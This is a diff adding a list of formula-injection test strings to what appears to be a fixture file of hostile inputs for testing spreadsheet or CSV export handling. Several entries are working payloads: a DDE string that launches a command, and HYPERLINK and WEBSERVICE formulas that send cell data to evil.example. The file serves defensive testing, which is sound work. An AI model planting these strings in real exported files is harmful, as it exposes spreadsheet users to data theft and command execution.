@@ -20,3 +20,30 @@ POLYGLOTS = [
     "\u202eevil\u2066",
     "😀" * 100,
 ]
+
+# What some spreadsheet runs, or would if it took another sign for the separator.
+FORMULAS = [
+    "=1+1",
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "  =1+1",
+    '"=1+1',
+    "'=1",
+    "a,=1",
+    "a;=1+1",
+    "a|=1",
+    "a\t=1",
+    "x\n=1",
+    "\";=cmd|' /C calc'!A0",
+    "a, =1",
+    "\uff1d1+1",
+    "\uff0b1",
+    '=HYPERLINK("http://evil.example?"&A1)',
+    '=WEBSERVICE("http://evil.example")',
+    "\ufeff=1",
+    "\xa0=1",
+]
